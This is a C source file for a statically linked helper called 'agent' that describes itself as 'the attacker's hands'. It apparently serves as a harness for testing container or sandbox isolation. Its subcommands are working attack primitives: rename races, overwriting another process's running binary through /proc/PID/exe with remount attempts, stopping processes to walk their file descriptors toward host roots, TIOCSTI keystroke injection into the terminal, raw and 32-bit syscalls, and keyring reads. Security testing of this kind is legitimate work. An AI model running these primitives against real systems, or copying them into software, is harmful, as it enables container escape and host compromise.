/* SPDX-License-Identifier: Apache-2.0 */
/* The attacker's hands, linked statically so that it runs in any image. agent WHAT ARGUMENTS... */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* exchange ONE OTHER: both names change places until killed. */
static int exchange(char **argv)
{
    while (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0 ||
           errno == ENOENT || errno == EBUSY)
        ;
    return 1;
}

/* rotate NAME ONE OTHER: NAME is in turn ONE, nothing, OTHER, nothing, until killed. */
static int rotate(char **argv)
{
    for (;;) {
        rename(argv[1], argv[0]);
        rename(argv[0], argv[1]);
        rename(argv[2], argv[0]);
        rename(argv[0], argv[2]);
    }
    return 1;
}

/* The mount that is in the way is to become writable. */
static int try_remount(const char *link)
{
    struct {
        unsigned long long set, clear, propagation, userns;
    } attr = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, link, 1 /* OPEN_TREE_CLONE */);

    if (syscall(SYS_mount_setattr, AT_FDCWD, link, 0, &attr, sizeof attr) == 0)
        return open(link, O_WRONLY);
    if (tree >= 0 && syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
        return open(path, O_WRONLY);
    }
    return -1;
}

static int write_when_idle(const char *link, const char *self)
{
    double end = now() + 2;
    int fd = -1;

    while (fd < 0 && now() < end) {
        fd = open(self, O_WRONLY);
        if (fd < 0 && errno == EROFS)
            fd = try_remount(link);
        if (fd < 0 && errno != ETXTBSY)
            break;
    }
    return fd >= 0 && pwrite(fd, "overwritten", 11, 0) == 11;
}

static int try_write(const char *link, long size)
{
    struct stat st;
    char self[64];
    int fd = open(link, O_PATH | O_CLOEXEC);

    if (fd < 0)
        return 0;
    if (fstat(fd, &st) < 0 || st.st_size != size) {
        close(fd);
        return 0;
    }
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    if (write_when_idle(link, self)) {
        printf("wrote by %s\n", link);
        return 1;
    }
    printf("seen by %s: %s\n", link, strerror(errno));
    close(fd);
    return 0;
}

/* overwrite SIZE SECONDS: a program of that size that somebody runs is to be written to as soon as
 * it is not busy. Exits 0 if it was. */
static int overwrite(char **argv)
{
    double end = now() + atof(argv[1]);
    char link[300];

    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
                continue;
            snprintf(link, sizeof link, "/proc/%.200s/exe", e->d_name);
            if (try_write(link, atol(argv[0])))
                return 0;
        }
        if (d)
            closedir(d);
    }
    return 1;
}

/* One directory of descriptors of somebody else's process. */
static int reaches(int fds, const char *fd, const char *secret)
{
    /* A directory of the host's processes leads to their roots. */
    static const char *const ways[] = {"", "/../../../../../../../..", "/self/root", "/1/root"};
    char path[4096];

    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        snprintf(path, sizeof path, "%.255s%s%.2000s", fd, ways[i], secret);
        if (faccessat(fds, path, F_OK, 0) == 0) {
            printf("reached %s\n", path);
            return 1;
        }
    }
    return 0;
}

static int look_at_fds(const char *pid, const char *secret)
{
    char dir[300];
    struct dirent *e;
    DIR *d;
    int hit = 0;

    snprintf(dir, sizeof dir, "/proc/%.255s/fd", pid);
    d = opendir(dir);
    while (d && !hit && (e = readdir(d)))
        hit = e->d_name[0] != '.' && reaches(dirfd(d), e->d_name, secret);
    if (d)
        closedir(d);
    return hit;
}

/* Who is held cannot be through before we have looked. */
static int look_at(const char *pid, const char *secret)
{
    int hit;

    if (atoi(pid) <= 1 || atoi(pid) == getpid() || kill(atoi(pid), SIGSTOP) < 0)
        return 0;
    hit = look_at_fds(pid, secret);
    kill(atoi(pid), SIGCONT);
    return hit;
}

/* join SECRET SECONDS: looks at the descriptors of every process that enters. */
static int join(char **argv)
{
    double end = now() + atof(argv[1]);

    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)))
            if (look_at(e->d_name, argv[0]))
                return 0;
        if (d)
            closedir(d);
    }
    return 1;
}

/* look PID SECRET: at the descriptors of one process. */
static int look(char **argv)
{
    return look_at_fds(argv[0], argv[1]) ? 0 : 1;
}

/* inject TEXT: as if typed on the terminal that is fd 0. */
static int inject(char **argv)
{
    for (const char *c = argv[0]; *c; c++)
        if (ioctl(0, TIOCSTI, c) < 0) {
            printf("TIOCSTI: %s\n", strerror(errno));
            return 1;
        }
    return 0;
}

/* call NUMBER [A [B [C]]]: a system call; prints its errno, 0 when it succeeded. */
static int call(char **argv)
{
    long a[3] = {0};

    for (int i = 0; i < 3 && argv[1 + i]; i++)
        a[i] = strtol(argv[1 + i], NULL, 0);
    errno = 0;
    syscall(strtol(argv[0], NULL, 0), a[0], a[1], a[2]);
    printf("%d\n", errno);
    return 0;
}

/* call32 NUMBER: the same by the gate of 32-bit programs. */
static int call32(char **argv)
{
#if defined(__x86_64__)
    long r = strtol(argv[0], NULL, 0);

    __asm__ volatile("int $0x80"
                     : "+a"(r)
                     : "b"(0), "c"(0), "d"(0)
                     : "memory", "r8", "r9", "r10", "r11");
    printf("%d\n", (int)r < 0 ? -(int)r : 0);
    return 0;
#else
    (void)argv;
    return 2;
#endif
}

/* with-key NAME PROGRAM...: a session keyring that has a key of that name, and the program. */
static int with_key(char **argv)
{
    syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
    if (syscall(SYS_add_key, "user", argv[0], "secret", 6UL, KEY_SPEC_SESSION_KEYRING) < 0) {
        perror("add_key");
        return 3;
    }
    execv(argv[1], argv + 1);
    return 2;
}

/* find-key NAME: reads the key of the session keyring. */
static int find_key(char **argv)
{
    char text[32] = "";
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0);

    if (key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) < 0) {
        printf("no key: %s\n", strerror(errno));
        return 1;
    }
    printf("key: %s\n", text);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int least;
        int (*run)(char **argv);
    } table[] = {
        {"exchange", 2, exchange}, {"rotate", 3, rotate}, {"overwrite", 2, overwrite},
        {"join", 2, join},         {"look", 2, look},     {"inject", 1, inject},
        {"call", 1, call},         {"call32", 1, call32}, {"with-key", 2, with_key},
        {"find-key", 1, find_key},
    };

    setvbuf(stdout, NULL, _IOLBF, 0);
    for (size_t i = 0; argc > 1 && i < sizeof table / sizeof *table; i++)
        if (strcmp(argv[1], table[i].name) == 0 && argc - 2 >= table[i].least)
            return table[i].run(argv + 2);
    fprintf(stderr, "agent: no such thing\n");
    return 2;
}
